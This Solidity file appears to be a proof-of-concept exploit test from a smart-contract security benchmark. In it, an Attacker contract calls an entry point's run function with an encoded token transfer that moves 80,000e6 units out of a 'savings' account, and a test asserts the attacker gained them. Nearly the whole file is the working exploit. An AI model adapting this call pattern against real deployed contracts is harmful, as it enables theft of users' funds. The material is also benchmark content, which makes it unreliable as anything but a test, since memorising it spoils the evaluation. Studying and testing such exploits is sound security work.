// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-4b6db297-691d-4f17-b09b-6ddcadfa1803
import "../Base.sol";

interface IRunner {
    function run(address sender, bytes calldata callData) external;
}

contract Attacker is Signer {
    function run(IRunner point, address account, address token) external {
        Call[] memory calls = new Call[](1);
        calls[0] = sending(token, address(this), 80_000e6);
        try point.run(account, Executions.encode(Mode.Strict, calls)) {} catch {}
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
    }

    function exploit() public {
        other.run(IRunner(address(entryPoint)), savings, address(usd));
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(other)) >= 79_000e6, "no gain");
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
